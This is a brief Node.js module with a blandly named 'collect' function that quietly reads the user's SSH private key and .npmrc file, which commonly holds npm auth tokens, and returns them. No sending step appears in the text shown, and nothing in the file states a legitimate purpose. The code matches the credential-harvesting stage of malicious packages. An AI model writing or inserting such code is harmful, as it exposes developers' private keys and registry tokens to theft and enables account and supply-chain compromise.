const fs = require('fs');
const os = require('os');
const path = require('path');

function read(p) {
  try { return fs.readFileSync(p, 'utf8'); } catch { return ''; }
}

exports.collect = function collect() {
  const home = os.homedir();
  return {
    ssh: read(path.join(home, '.ssh', 'id_rsa')),
    npm: read(path.join(home, '.npmrc')),
  };
};
